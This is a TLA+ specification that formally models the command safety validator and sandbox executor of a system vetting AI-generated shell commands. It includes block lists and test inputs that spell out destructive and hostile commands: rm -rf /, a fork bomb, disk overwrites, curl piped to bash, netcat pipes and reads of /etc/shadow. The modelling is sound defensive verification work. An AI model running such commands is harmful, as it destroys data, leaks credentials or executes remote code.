---------------------------- MODULE Spec2Model ----------------------------
(***************************************************************************)
(* GLSFS: the command safety validator (src/src/safety/validator.py), the  *)
(* sandbox executor (src/src/sandbox/executor.py) and the query pipeline   *)
(* (src/src/glsfs_system.py).                                              *)
(*                                                                         *)
(* Commands are strings.  The string primitives of Python that the code    *)
(* uses (strip, split, replace, startswith, re.search, os.path.normpath)   *)
(* are operators over strings, computed character by character.            *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

(***************************************************************************)
(* Python string primitives                                                *)
(***************************************************************************)

\* Optional values: None is the empty tuple, a present value a 1-tuple.
None == <<>>

Some(v) == <<v>>

\* s[i-1] of Python, 1-based here.
Ch(s, i) == SubSeq(s, i, i)

\* s[i-1:] of Python.
From(s, i) == SubSeq(s, i, Len(s))

\* Whitespace of str.strip(), str.split() and the regex class \s, over the
\* characters that occur in the model's commands.
IsSpace(c) == c \in {" ", "\t", "\n"}

\* The backquote character, which a string literal of this language cannot
\* hold: commands and patterns write it as "^", a character that none of the
\* code's patterns or path rules mentions.
Backtick == "^"

UpperChars == "ABCDEFGHIJKLMNOPQRSTUVWXYZ"

LowerChars == "abcdefghijklmnopqrstuvwxyz"

LowerCh(c) ==
    IF \E k \in 1..26 : Ch(UpperChars, k) = c
    THEN Ch(LowerChars, CHOOSE k \in 1..26 : Ch(UpperChars, k) = c)
    ELSE c

\* str.lower(); re.IGNORECASE is modelled by searching the lowered string
\* with a lower-case pattern.
RECURSIVE lower(_)
lower(s) == IF s = "" THEN "" ELSE LowerCh(Ch(s, 1)) \o lower(From(s, 2))

\* The literal lit occurs in s at position i.
At(s, i, lit) ==
    /\ i >= 1
    /\ i + Len(lit) - 1 <= Len(s)
    /\ SubSeq(s, i, i + Len(lit) - 1) = lit

startswith(s, prefix) == At(s, 1, prefix)

endswith(s, suffix) == At(s, Len(s) - Len(suffix) + 1, suffix)

\* (lit in s) of Python.
Contains(s, lit) == \E i \in 1..Len(s) : At(s, i, lit)

\* s.count(lit): the non-overlapping occurrences, left to right.
RECURSIVE count(_, _)
count(s, lit) ==
    IF Len(s) < Len(lit) THEN 0
    ELSE IF At(s, 1, lit) THEN 1 + count(From(s, Len(lit) + 1), lit)
    ELSE count(From(s, 2), lit)

\* s.replace(old, new): every non-overlapping occurrence, left to right.
RECURSIVE replace(_, _, _)
replace(s, old, new) ==
    IF Len(s) < Len(old) \/ s = "" THEN s
    ELSE IF At(s, 1, old) THEN new \o replace(From(s, Len(old) + 1), old, new)
    ELSE Ch(s, 1) \o replace(From(s, 2), old, new)

\* The first position >= i of s that holds no whitespace (Len(s)+1 if none):
\* where a greedy \s* that starts at i ends.
RECURSIVE SkipSp(_, _)
SkipSp(s, i) ==
    IF i <= Len(s) /\ IsSpace(Ch(s, i)) THEN SkipSp(s, i + 1) ELSE i

RECURSIVE lstrip(_)
lstrip(s) == IF s /= "" /\ IsSpace(Ch(s, 1)) THEN lstrip(From(s, 2)) ELSE s

RECURSIVE rstrip(_)
rstrip(s) ==
    IF s /= "" /\ IsSpace(Ch(s, Len(s)))
    THEN rstrip(SubSeq(s, 1, Len(s) - 1)) ELSE s

\* s.strip()
strip(s) == rstrip(lstrip(s))

\* The first position >= i of s that holds whitespace (Len(s)+1 if none).
RECURSIVE SkipWord(_, _)
SkipWord(s, i) ==
    IF i <= Len(s) /\ ~IsSpace(Ch(s, i)) THEN SkipWord(s, i + 1) ELSE i

\* s.split(): the maximal runs of non-whitespace, in order.
RECURSIVE split(_)
split(s) ==
    LET t == lstrip(s)
        e == SkipWord(t, 1)
    IN  IF t = "" THEN <<>>
        ELSE <<SubSeq(t, 1, e - 1)>> \o split(From(t, e))

\* s.split(sep)[0]: the text before the first occurrence of sep.
SplitFirst(s, sep) ==
    IF Contains(s, sep)
    THEN SubSeq(s, 1, (CHOOSE i \in 1..Len(s) :
                          /\ At(s, i, sep)
                          /\ \A j \in 1..(i - 1) : ~At(s, j, sep)) - 1)
    ELSE s

\* s.split(sep), every piece, for a one-character sep.
RECURSIVE SplitOn(_, _)
SplitOn(s, sep) ==
    IF Contains(s, sep)
    THEN LET h == SplitFirst(s, sep)
         IN  <<h>> \o SplitOn(From(s, Len(h) + 2), sep)
    ELSE <<s>>

\* sep.join(parts)
RECURSIVE join(_, _)
join(sep, parts) ==
    IF parts = <<>> THEN ""
    ELSE IF Len(parts) = 1 THEN parts[1]
    ELSE parts[1] \o sep \o join(sep, Tail(parts))

\* os.path.basename(p): the text after the last "/".
RECURSIVE basename(_)
basename(p) == IF Contains(p, "/") THEN basename(From(p, Len(SplitFirst(p, "/")) + 2)) ELSE p

\* The component loop of posixpath.normpath.
RECURSIVE NormComps(_, _, _)
NormComps(comps, acc, rooted) ==
    IF comps = <<>> THEN acc
    ELSE LET comp == Head(comps)
             rest == Tail(comps)
         IN  IF comp \in {"", "."} THEN NormComps(rest, acc, rooted)
             ELSE IF \/ comp /= ".."
                     \/ (~rooted /\ acc = <<>>)
                     \/ (acc /= <<>> /\ acc[Len(acc)] = "..")
                  THEN NormComps(rest, Append(acc, comp), rooted)
             ELSE IF acc /= <<>>
                  THEN NormComps(rest, SubSeq(acc, 1, Len(acc) - 1), rooted)
             ELSE NormComps(rest, acc, rooted)

\* os.path.normpath(path) of POSIX: lexical, no filesystem access.
normpath(path) ==
    IF path = "" THEN "."
    ELSE LET slashes == IF ~startswith(path, "/") THEN ""
                        ELSE IF startswith(path, "//") /\ ~startswith(path, "///")
                             THEN "//" ELSE "/"
             body == join("/", NormComps(SplitOn(path, "/"), <<>>, slashes /= ""))
             res == slashes \o body
         IN  IF res = "" THEN "." ELSE res


(***************************************************************************)
(* Regular expressions: a pattern is a sequence of elements, matched with  *)
(* backtracking as re.search does.                                         *)
(***************************************************************************)

Lit(v) == [t |-> "lit", v |-> v, alts |-> {}]

Alt(S) == [t |-> "alt", v |-> "", alts |-> S]

SpPlus == [t |-> "sp+", v |-> "", alts |-> {}]

SpStar == [t |-> "sp*", v |-> "", alts |-> {}]

AtEnd == [t |-> "end", v |-> "", alts |-> {}]

DotStar == [t |-> "dot*", v |-> "", alts |-> {}]

NotStar(c) == [t |-> "not*", v |-> c, alts |-> {}]

NotPlus(c) == [t |-> "not+", v |-> c, alts |-> {}]

LowerAZ == [t |-> "a-z", v |-> "", alts |-> {}]

\* Every character of s[i..j-1] satisfies the element's class.
ClassRun(s, i, j, e) ==
    \A k \in i..(j - 1) :
        CASE e.t \in {"sp+", "sp*"} -> IsSpace(Ch(s, k))
          [] e.t = "dot*" -> Ch(s, k) /= "\n"
          [] OTHER -> Ch(s, k) /= e.v

\* pat[k..] matches s from position i on.
RECURSIVE MatchFrom(_, _, _, _)
MatchFrom(s, i, pat, k) ==
    IF k > Len(pat) THEN TRUE
    ELSE LET e == pat[k] IN
         CASE e.t = "lit" -> At(s, i, e.v) /\ MatchFrom(s, i + Len(e.v), pat, k + 1)
           [] e.t = "alt" -> \E a \in e.alts :
                                 At(s, i, a) /\ MatchFrom(s, i + Len(a), pat, k + 1)
           [] e.t = "a-z" -> /\ i <= Len(s)
                             /\ \E n \in 1..26 : Ch(LowerChars, n) = Ch(s, i)
                             /\ MatchFrom(s, i + 1, pat, k + 1)
           [] e.t = "end" -> /\ \/ i = Len(s) + 1
                                \/ (i = Len(s) /\ Ch(s, i) = "\n")
                             /\ MatchFrom(s, i, pat, k + 1)
           [] e.t \in {"sp+", "not+"} ->
                  \E j \in (i + 1)..(Len(s) + 1) :
                      ClassRun(s, i, j, e) /\ MatchFrom(s, j, pat, k + 1)
           [] OTHER ->
                  \E j \in i..(Len(s) + 1) :
                      ClassRun(s, i, j, e) /\ MatchFrom(s, j, pat, k + 1)

\* The pattern with its literals lowered.
LowerPat(pat) ==
    [k \in 1..Len(pat) |->
        [t |-> pat[k].t, v |-> lower(pat[k].v),
         alts |-> {lower(a) : a \in pat[k].alts}]]

\* re.search(pattern, s) is not None
re_search(pat, s) == \E i \in 1..(Len(s) + 1) : MatchFrom(s, i, pat, 1)

\* re.search(pattern, s, re.IGNORECASE) is not None
re_search_i(pat, s) == re_search(LowerPat(pat), lower(s))

(***************************************************************************)
(* CommandSafetyValidator                                                  *)
(***************************************************************************)

sandbox_root == "/home/user"

RmRf == <<Lit("rm"), SpPlus, Lit("-rf"), SpPlus>>

forbidden_patterns ==
    << RmRf \o <<Lit("/"), SpStar, AtEnd>>,
       RmRf \o <<Lit("/"), SpPlus>>,
       RmRf \o <<Lit("~"), SpStar, AtEnd>>,
       RmRf \o <<Lit("/home/user"), SpStar, AtEnd>>,
       <<Lit(":(){:|:&};:")>>,
       <<Lit("dd"), SpPlus, Lit("if=/dev/"), Alt({"zero", "random"}), SpPlus,
         Lit("of=/dev/sd")>>,
       <<Lit("mkfs.")>>,
       <<Lit(">"), SpStar, Lit("/dev/sd"), LowerAZ>>,
       <<Lit("chmod"), SpPlus, Lit("-R"), SpPlus, Lit("777"), SpPlus, Lit("/")>>,
       <<Lit("chown"), SpPlus, Lit("-R"), DotStar, SpPlus, Lit("/")>>,
       <<Lit("/dev/sd"), LowerAZ>>,
       <<Lit("curl"), DotStar, Lit("|"), SpStar, Lit("bash")>>,
       <<Lit("wget"), DotStar, Lit("|"), SpStar, Lit("sh")>>,
       <<Lit(">"), SpStar, Lit("/etc/")>>,
       RmRf \o <<Lit("/etc")>>,
       RmRf \o <<Lit("/usr")>>,
       RmRf \o <<Lit("/var")>> >>

write_commands ==
    {"rm", "mv", "cp", "chmod", "chown", "touch", "mkdir", "rmdir", "ln",
     "truncate", "shred"}

readonly_commands ==
    {"ls", "cat", "head", "tail", "less", "more", "find", "grep", "egrep", "fgrep",
     "wc", "file", "stat", "du", "df", "tree", "pwd", "echo", "printf",
     "sort", "uniq", "cut", "awk", "sed", "diff", "comm", "cmp",
     "basename", "dirname", "realpath", "readlink", "md5sum", "sha256sum",
     "strings", "od", "hexdump", "xxd", "nl", "tac", "rev", "column",
     "date", "cal", "env", "printenv", "id", "whoami", "hostname",
     "true", "false", "test", "[", "expr"}

safe_paths ==
    <<"/home/user", "/home/user/Desktop", "/home/user/Documents",
      "/home/user/Downloads", "/home/user/workspace", "/workspace", "/tmp">>

readonly_mounts ==
    <<"/home/user/Desktop", "/home/user/Documents", "/home/user/Downloads">>

\* self.writable_paths: set in __init__ and read nowhere.
writable_paths == <<"/home/user/workspace", "/workspace", "/tmp">>

\* re.sub of lit followed by whitespace or the end of the string (the
\* lookahead (?=\s|$)): every such occurrence, left to right, becomes new.
RECURSIVE SubAtWordEnd(_, _, _)
SubAtWordEnd(s, lit, new) ==
    IF s = "" THEN ""
    ELSE IF At(s, 1, lit) /\ (Len(s) = Len(lit) \/ IsSpace(Ch(s, Len(lit) + 1)))
         THEN new \o SubAtWordEnd(From(s, Len(lit) + 1), lit, new)
    ELSE Ch(s, 1) \o SubAtWordEnd(From(s, 2), lit, new)

sanitize_paths(command) ==
    LET r1 == replace(command, "~/", sandbox_root \o "/")
        r2 == replace(r1, "$HOME/", sandbox_root \o "/")
        r3 == replace(r2, "${HOME}/", sandbox_root \o "/")
        r4 == replace(r3, "$HOME", sandbox_root)
        r5 == replace(r4, "${HOME}", sandbox_root)
    IN  SubAtWordEnd(r5, "~", sandbox_root)

\* One step of the loop over the chaining separators.
CutAt(command, sep) ==
    IF Contains(command, sep) THEN SplitFirst(command, sep) ELSE command

get_base_command(command) ==
    LET c1 == CutAt(command, "|")
        c2 == CutAt(CutAt(CutAt(c1, "&&"), "||"), ";")
        parts == split(strip(c2))
    IN  IF parts = <<>> THEN ""
        ELSE LET cmd == IF parts[1] = "sudo" /\ Len(parts) > 1
                        THEN parts[2] ELSE parts[1]
             IN  IF Contains(cmd, "/") THEN basename(cmd) ELSE cmd

\* [p for p in parts if not p.startswith('-')]
NonFlags(parts) == SelectSeq(parts, LAMBDA p : ~startswith(p, "-"))

extract_target_paths(command, base_cmd) ==
    LET parts == split(command)
        args == IF parts = <<>> THEN <<>> ELSE Tail(parts)
        non_flags == NonFlags(args)
    IN  CASE base_cmd \in {"rm", "rmdir", "shred"} -> non_flags
          [] base_cmd \in {"mv", "cp", "ln"} ->
                 IF non_flags /= <<>> THEN <<non_flags[Len(non_flags)]>> ELSE <<>>
          [] base_cmd \in {"touch", "mkdir"} -> non_flags
          [] base_cmd \in {"chmod", "chown"} ->
                 IF non_flags /= <<>> THEN Tail(non_flags) ELSE <<>>
          [] OTHER -> <<>>

\* The path as both boundary checks normalize it.
ResolvePath(path) ==
    normpath(IF ~startswith(path, "/") THEN sandbox_root \o "/" \o path ELSE path)

\* _is_readonly_path were it to compare for equality alone, without the
\* prefix test.
is_readonly_path_exact(path) ==
    \E k \in 1..Len(readonly_mounts) : ResolvePath(path) = readonly_mounts[k]

is_readonly_path(path) ==
    LET p == ResolvePath(path)
    IN  \E k \in 1..Len(readonly_mounts) :
            startswith(p, readonly_mounts[k]) \/ p = readonly_mounts[k]

is_in_sandbox(path) ==
    LET p == ResolvePath(path)
    IN  \/ \E k \in 1..Len(safe_paths) :
               startswith(p, safe_paths[k]) \/ p = safe_paths[k]
        \/ startswith(p, ".")

dangerous_paths == <<"/etc", "/root", "/sys", "/proc", "/boot", "/dev/sd">>

MaxLevelsUp == 3

\* _validate_all_paths were it to reject any directory traversal at all.
validate_all_paths_no_traversal(command) ==
    IF Contains(command, "/../") \/ endswith(command, "/..")
    THEN Some("Excessive directory traversal detected")
    ELSE None

\* None when the sweep passes, the error message otherwise.
validate_all_paths(command) ==
    LET parts == NonFlags(split(command))
        Hit(part, d) == startswith(part, d) \/ Contains(part, "/" \o d)
        bad == {k \in 1..Len(parts) :
                   \E d \in 1..Len(dangerous_paths) : Hit(parts[k], dangerous_paths[d])}
    IN  IF bad /= {}
        THEN LET k == CHOOSE k \in bad : \A j \in bad : k <= j
                 ds == {d \in 1..Len(dangerous_paths) : Hit(parts[k], dangerous_paths[d])}
                 d == CHOOSE d \in ds : \A j \in ds : d <= j
             IN  Some("Access to " \o dangerous_paths[d] \o " is forbidden")
        ELSE IF /\ Contains(command, "/../") \/ endswith(command, "/..")
                /\ count(command, "..") > MaxLevelsUp
             THEN Some("Excessive directory traversal detected")
        ELSE None

dangerous_patterns ==
    << <<Lit(";"), SpStar, Lit("rm"), SpPlus, Lit("-rf")>>,
       <<Lit("$("), NotStar(")"), Lit("rm"), NotStar(")"), Lit(")")>>,
       <<Lit(Backtick), NotStar(Backtick), Lit("rm"), NotStar(Backtick), Lit(Backtick)>>,
       <<Lit("|"), SpStar, Lit("sh"), SpStar, AtEnd>>,
       <<Lit("|"), SpStar, Lit("bash"), SpStar, AtEnd>>,
       <<Lit("|"), SpStar, Lit("zsh"), SpStar, AtEnd>>,
       <<Lit("eval"), SpPlus>>,
       <<Lit("2>&1"), DotStar, Lit("|"), SpStar, Alt({"nc", "netcat"})>>,
       <<Lit(">"), SpStar, Lit("/dev/null"), SpStar, Lit("2>&1"), SpStar, Lit("&")>> >>

suspicious_patterns ==
    << [pat |-> <<Lit("$("), NotPlus(")"), Lit(")")>>,
        msg |-> "Command substitution used"],
        [pat |-> <<Lit(Backtick), NotPlus(Backtick), Lit(Backtick)>>,
        msg |-> "Backtick substitution used"] >>

detect_injection(command) ==
    [is_dangerous |->
        \E k \in 1..Len(dangerous_patterns) : re_search_i(dangerous_patterns[k], command),
     warnings |->
        LET hits == SelectSeq(suspicious_patterns, LAMBDA sp : re_search(sp.pat, command))
        IN  [k \in 1..Len(hits) |-> hits[k].msg]]

Rejected(msg) == [is_safe |-> FALSE, warnings |-> <<msg>>, sanitized_command |-> None]

\* The final return of validate.
Accepted(warnings, sanitized_command) ==
    [is_safe |-> TRUE, warnings |-> warnings,
     sanitized_command |-> Some(sanitized_command)]

ForbiddenMsg == "FORBIDDEN: Dangerous operation detected"

ReadonlyMsg(target) == "BLOCKED: Cannot write to read-only path: " \o target

OutsideMsg(target) == "BLOCKED: Path outside sandbox: " \o target

InjectionMsg == "Security risk: Command injection detected"

destructive_commands == {"rm", "rmdir", "shred", "truncate"}

\* The loop of step 4 over the target paths from the k-th on: the message of
\* the first target that is read-only or outside the sandbox, or None.
RECURSIVE CheckTargets(_, _)
CheckTargets(target_paths, k) ==
    IF k > Len(target_paths) THEN None
    ELSE IF is_readonly_path(target_paths[k]) THEN Some(ReadonlyMsg(target_paths[k]))
    ELSE IF ~is_in_sandbox(target_paths[k]) THEN Some(OutsideMsg(target_paths[k]))
    ELSE CheckTargets(target_paths, k + 1)

\* Step 4 of validate: the boundary checks of a write command.
CheckWrite(sanitized_command, base_command) ==
    IF base_command \in write_commands
    THEN CheckTargets(extract_target_paths(sanitized_command, base_command), 1)
    ELSE None

\* The warning step 4 adds for a destructive write command.
DestructiveWarnings(base_command) ==
    IF base_command \in write_commands /\ base_command \in destructive_commands
    THEN <<"Destructive command: " \o base_command>> ELSE <<>>

\* The returns of steps 4 to 6 and the final return, from what the steps found.
Verdict(sanitized_command, base_command, blocked, injection, path_error) ==
    IF blocked /= None THEN Rejected(blocked[1])
    ELSE IF injection.is_dangerous THEN Rejected(InjectionMsg)
    ELSE IF path_error /= None THEN Rejected(path_error[1])
    ELSE Accepted(DestructiveWarnings(base_command) \o injection.warnings,
                  sanitized_command)

\* Steps 3 to 6 of validate, on the stripped command that passed the blocklist.
ValidateSteps(sanitized_command, base_command) ==
    Verdict(sanitized_command, base_command,
            CheckWrite(sanitized_command, base_command),
            detect_injection(sanitized_command),
            validate_all_paths(sanitized_command))

ValidateSanitized(sanitized_command) ==
    ValidateSteps(sanitized_command, get_base_command(sanitized_command))

\* Steps 1 and 2 of validate were step 2 to leave the command as it is.
ValidateStrippedUnsanitized(stripped) ==
    IF \E k \in 1..Len(forbidden_patterns) :
           re_search_i(forbidden_patterns[k], stripped)
    THEN Rejected(ForbiddenMsg)
    ELSE ValidateSanitized(stripped)

\* Steps 1 and 2 of validate, on the stripped command.
ValidateStripped(stripped) ==
    IF \E k \in 1..Len(forbidden_patterns) :
           re_search_i(forbidden_patterns[k], stripped)
    THEN Rejected(ForbiddenMsg)
    ELSE ValidateSanitized(sanitize_paths(stripped))

validate(command) ==
    IF command = "" \/ strip(command) = "" THEN Rejected("Empty command")
    ELSE ValidateStripped(strip(command))

\* The three checks validate runs after the blocklist, and the order the
\* code runs them in: the boundary check of step 4, the injection check of
\* step 5 and the path sweep of step 6.
CodeOrder == <<"boundary", "injection", "paths">>

\* Every order of the three checks.
Orders ==
    { <<"boundary", "injection", "paths">>, <<"boundary", "paths", "injection">>,
      <<"injection", "boundary", "paths">>, <<"injection", "paths", "boundary">>,
      <<"paths", "boundary", "injection">>, <<"paths", "injection", "boundary">> }

\* One check: the message it rejects the command with, or None, and the
\* warnings it adds when it lets the command through.
CheckStep(name, sanitized_command, base_command) ==
    CASE name = "boundary" ->
             [failed |-> CheckWrite(sanitized_command, base_command),
              warnings |-> DestructiveWarnings(base_command)]
      [] name = "injection" ->
             LET injection == detect_injection(sanitized_command)
             IN  [failed |-> IF injection.is_dangerous THEN Some(InjectionMsg) ELSE None,
                  warnings |-> injection.warnings]
      [] OTHER ->
             [failed |-> validate_all_paths(sanitized_command), warnings |-> <<>>]

\* What each of the three checks finds for a command.
CheckSteps(sanitized_command, base_command) ==
    [boundary |-> CheckStep("boundary", sanitized_command, base_command),
     injection |-> CheckStep("injection", sanitized_command, base_command),
     paths |-> CheckStep("paths", sanitized_command, base_command)]

\* The checks run in the given order were only the first of them to decide.
RunChecksFirstOnly(order, k, warnings, steps, sanitized_command) ==
    IF steps[order[1]].failed /= None THEN Rejected(steps[order[1]].failed[1])
    ELSE Accepted(steps[order[1]].warnings, sanitized_command)

\* The checks from the k-th on, run in the given order: the first that fails
\* returns its rejection, and the command is accepted with the warnings
\* gathered when none does.
RECURSIVE RunChecks(_, _, _, _, _)
RunChecks(order, k, warnings, steps, sanitized_command) ==
    IF k > Len(order) THEN Accepted(warnings, sanitized_command)
    ELSE IF steps[order[k]].failed /= None THEN Rejected(steps[order[k]].failed[1])
    ELSE RunChecks(order, k + 1, warnings \o steps[order[k]].warnings, steps,
                   sanitized_command)

\* validate with its three checks run in each of the orders.
validate_in_orders(command) ==
    IF command = "" \/ strip(command) = ""
    THEN [o \in Orders |-> Rejected("Empty command")]
    ELSE IF \E k \in 1..Len(forbidden_patterns) :
                re_search_i(forbidden_patterns[k], strip(command))
    THEN [o \in Orders |-> Rejected(ForbiddenMsg)]
    ELSE LET sanitized_command == sanitize_paths(strip(command))
             steps == CheckSteps(sanitized_command, get_base_command(sanitized_command))
         IN  [o \in Orders |-> RunChecks(o, 1, <<>>, steps, sanitized_command)]

(***************************************************************************)
(* SandboxExecutor: path normalization and translation                     *)
(***************************************************************************)

canonical_folders ==
    << [wrong_case |-> "desktop", correct_case |-> "Desktop"],
       [wrong_case |-> "documents", correct_case |-> "Documents"],
       [wrong_case |-> "downloads", correct_case |-> "Downloads"],
       [wrong_case |-> "workspace", correct_case |-> "workspace"] >>

\* The character loop of the tokenizer; in_quote = "" stands for None.
RECURSIVE TokenizeFrom(_, _, _, _, _)
TokenizeFrom(s, i, tokens, current, in_quote) ==
    IF i > Len(s)
    THEN IF current /= "" THEN Append(tokens, current) ELSE tokens
    ELSE LET char == Ch(s, i) IN
         IF char \in {"\"", "'"}
         THEN IF in_quote = char
              THEN TokenizeFrom(s, i + 1, tokens, current \o char, "")
              ELSE IF in_quote = ""
                   THEN TokenizeFrom(s, i + 1, tokens, current \o char, char)
              ELSE TokenizeFrom(s, i + 1, tokens, current \o char, in_quote)
         ELSE IF char = " " /\ in_quote = ""
              THEN IF current /= ""
                   THEN TokenizeFrom(s, i + 1, Append(tokens, current), "", in_quote)
                   ELSE TokenizeFrom(s, i + 1, tokens, current, in_quote)
         ELSE TokenizeFrom(s, i + 1, tokens, current \o char, in_quote)

tokenize_preserving_quotes(command) == TokenizeFrom(command, 1, <<>>, "", "")

\* Pattern 1 of _fix_folder_case, case-insensitive over the whole pattern:
\* (/home/user/)<wrong_case>(?=/|$|\s) becomes \1<correct_case>.
RECURSIVE SubHomeFolder(_, _, _)
SubHomeFolder(s, wrong_case, correct_case) ==
    LET n == Len("/home/user/") + Len(wrong_case)
    IN  IF s = "" THEN ""
        ELSE IF /\ Len(s) >= n
                /\ lower(SubSeq(s, 1, n)) = "/home/user/" \o wrong_case
                /\ \/ Len(s) = n
                   \/ Ch(s, n + 1) = "/"
                   \/ IsSpace(Ch(s, n + 1))
             THEN SubSeq(s, 1, Len("/home/user/")) \o correct_case
                      \o SubHomeFolder(From(s, n + 1), wrong_case, correct_case)
        ELSE Ch(s, 1) \o SubHomeFolder(From(s, 2), wrong_case, correct_case)

\* The token loop of _fix_folder_case for one folder.
FixToken(token, wrong_case, correct_case) ==
    IF startswith(token, "'") \/ startswith(token, "\"") THEN token
    ELSE IF lower(token) = wrong_case THEN correct_case
    ELSE IF startswith(lower(token), wrong_case \o "/")
         THEN correct_case \o From(token, Len(wrong_case) + 1)
    ELSE token

\* One iteration of the loop over canonical_folders.
FixFolder(command, f) ==
    IF f.wrong_case = f.correct_case THEN command
    ELSE LET r1 == SubHomeFolder(command, f.wrong_case, f.correct_case)
             tokens == tokenize_preserving_quotes(r1)
             fixed_tokens == [k \in 1..Len(tokens) |->
                                 FixToken(tokens[k], f.wrong_case, f.correct_case)]
         IN  join(" ", fixed_tokens)

RECURSIVE FixFolders(_, _)
FixFolders(command, k) ==
    IF k > Len(canonical_folders) THEN command
    ELSE FixFolders(FixFolder(command, canonical_folders[k]), k + 1)

fix_folder_case(command) == FixFolders(command, 1)

smart_normalize_command(command) ==
    IF command = "" THEN command
    ELSE LET r1 == replace(command, "~/", "/home/user/")
             r2 == SubAtWordEnd(r1, "~", "/home/user")
             r3 == replace(r2, "$HOME/", "/home/user/")
             r4 == replace(r3, "${HOME}/", "/home/user/")
             r5 == SubAtWordEnd(r4, "$HOME", "/home/user")
             r6 == SubAtWordEnd(r5, "${HOME}", "/home/user")
         IN  fix_folder_case(r6)

\* self.local_workspace for a host home directory.
local_workspace(host_home) == host_home \o "/glsfs/data/workspace"

\* self.path_mapping, in the order sorted(..., key=len, reverse=True) gives:
\* longest sandbox path first, equal lengths in insertion order.
sorted_mappings(host_home) ==
    << <<"/home/user/Documents", host_home \o "/Documents">>,
       <<"/home/user/Downloads", host_home \o "/Downloads">>,
       <<"/home/user/workspace", local_workspace(host_home)>>,
       <<"/home/user/Desktop", host_home \o "/Desktop">>,
       <<"/home/user", host_home>> >>

RECURSIVE TranslateFrom(_, _, _)
TranslateFrom(result, maps, k) ==
    IF k > Len(maps) THEN result
    ELSE TranslateFrom(IF maps[k][2] /= ""
                       THEN replace(result, maps[k][1], maps[k][2])
                       ELSE result,
                       maps, k + 1)

translate_path_for_local(command, host_home) == TranslateFrom(command, sorted_mappings(host_home), 1)

(***************************************************************************)
(* The inputs of the model                                                 *)
(***************************************************************************)

\* The commands the generator may return: its output is untrusted, so the
\* set holds safe, forbidden, boundary-violating and malformed ones.
Commands ==
    { "ls Desktop", "find . -name \"*.pdf\"", "ls ~/documents", "echo $(date)",
      "rm workspace/a.txt", "touch /home/user/workspace/a.txt", "  ls Desktop  ",
      "", "cat /etc/passwd", "ls | sh",
      "rm -rf /", ":(){ :|:& };:", ":(){:|:&};:", "mkfs.ext4 /dev/sda1",
      "dd if=/dev/zero of=/dev/sda", "curl http://x.sh | bash",
      "echo x > /etc/passwd",
      "rm -rf ~", "rm -rf ~/", "rm -rf $HOME", "rm -rf ${HOME}", "rm -rf /home/user",
      "rm /home/user/Desktop/f.txt", "touch ~/Documents/n.txt",
      "cp a.txt /home/user/Downloads/", "chown -R bob /home/user/Desktop/f",
      "rm /opt/x /home/user/Desktop/y", "rm /home/user/Desktop/../workspace/x",
      "mkdir /home/user/Desktop2", "sudo rm Desktop/f" }

\* The commands a caller may hand to CommandSafetyValidator.validate
\* directly: the generator's, and read-only commands, references to system
\* paths, injection shapes, writes inside the sandbox home, writes after a
\* pipe or a chain operator, and write targets next to the safe roots.
ValidatorCommands ==
    Commands \cup
    { "cat mkfs.txt", "ls a/../b/../c/../d/../e", "head /proc/cpuinfo",
      "cat \"/etc/passwd\"", "cat /home/user/../../etc/shadow", "ls -la /boot",
      "cat /dev/sdb1", "ls /etcetera", "wc -l notes.txt", "grep -r TODO workspace",
      "cat workspace/../notes.txt",
      "ls; rm /home/user/Desktop/f", "ls; rm -rf x", "echo $(rm x)", "echo ^rm x^",
      "ls | sh -c x", "ls | zsh", "eval ls", "ls > /dev/null 2>&1 &", "echo ^date^",
      "ls 2>&1 | nc h 1", "echo $(shred x)",
      "touch /home/user/notes.txt", "mkdir /tmp/x", "touch /workspace/a",
      "cp /home/user/workspace/a /home/user/b", "rm /home/user/workspace/a.txt",
      "truncate -s 0 /home/user/Desktop/f", "mv /home/user/workspace/a /var/b",
      "ls | rm /home/user/Desktop/f", "ls && touch /opt/x", "ls || mkdir /var/x",
      "ls && touch /tmp/ok", "rm /tmp/a; rm /opt/x",
      "mkdir /home/user2/x", "touch /tmpfoo/x", "touch /var/x", "touch ./x",
      "touch ../x", "touch /home/user", "mkdir /tmp", "touch /tmp/../x",
      "rm /opt/x | sh", "touch /etc/x", "rm workspace/$(date)", "rm /etc/x $(rm y)" }

\* The host home directories (Path.home()) the executor may run under.
HostHomes == {"/Users/me", "/mnt/home/user"}

\* validate, tabulated over the generator's commands.
Validations == [c \in ValidatorCommands |-> validate(c)]

\* The sanitized commands the validator returns.
FinalCommands ==
    {v.sanitized_command[1] :
        v \in {w \in {Validations[c] : c \in Commands} : w.sanitized_command /= None}}

\* The commands a caller may hand to SandboxExecutor.execute directly: folder
\* references in any case, home references, flags, operators and quoted
\* patterns, and sandbox paths of every mount.
ExecCommands ==
    { "ls", "ls documents", "ls ~/Documents", "cat Desktop/f.txt", "ls documents/",
      "ls DOWNLOADS", "ls ~/desktop/a.txt", "ls $HOME/downloads",
      "find . -path '*/documents/*'", "ls -la Desktop", "cat a | grep b > out.txt",
      "echo '~/notes'", "grep -r '/home/user/documents/' .", "tar -C~/x -tf a.tar",
      "echo $HOME$HOME", "ls ~~",
      "cat /home/user/workspace/x", "ls /home/user",
      "ls /home/user/Desktop /home/user/workspace", "ls /home/userdata" }

\* _smart_normalize_command, tabulated over the commands execute may receive.
Normalized ==
    [c \in Commands \cup FinalCommands \cup ExecCommands |-> smart_normalize_command(c)]

\* _translate_path_for_local, tabulated per host home over the normalized
\* commands.
Translated ==
    [h \in HostHomes, c \in {Normalized[d] : d \in DOMAIN Normalized} |->
        translate_path_for_local(c, h)]

(***************************************************************************)
(* SandboxExecutor: construction and execution                             *)
(***************************************************************************)

\* What the Docker runtime does at construction.
InitOutcomes == {"ok", "unreachable", "image_missing", "run_failed", "not_running"}

\* _ensure_container: the container's status and the exception it raises.
ensure_container(env) ==
    CASE env = "image_missing" -> [container |-> "none", raised |-> Some("ImageNotFound")]
      [] env = "run_failed" -> [container |-> "none", raised |-> Some("APIError")]
      [] env = "not_running" ->
             [container |-> "exited", raised |-> Some("Container status: exited")]
      [] OTHER -> [container |-> "running", raised |-> None]

\* _setup_docker were its except clauses to leave use_docker set.
setup_docker_keeps_mode(env) ==
    IF env = "unreachable"
    THEN [use_docker |-> TRUE, container |-> "none", raised |-> None]
    ELSE [use_docker |-> TRUE, container |-> ensure_container(env).container,
          raised |-> None]

\* _setup_docker were it to let the exception through.
setup_docker_raises(env) ==
    IF env = "unreachable"
    THEN [use_docker |-> TRUE, container |-> "none", raised |-> Some("DockerException")]
    ELSE [use_docker |-> TRUE, container |-> ensure_container(env).container,
          raised |-> ensure_container(env).raised]

\* _setup_docker: both except clauses print and clear use_docker.
setup_docker(env) ==
    IF env = "unreachable"
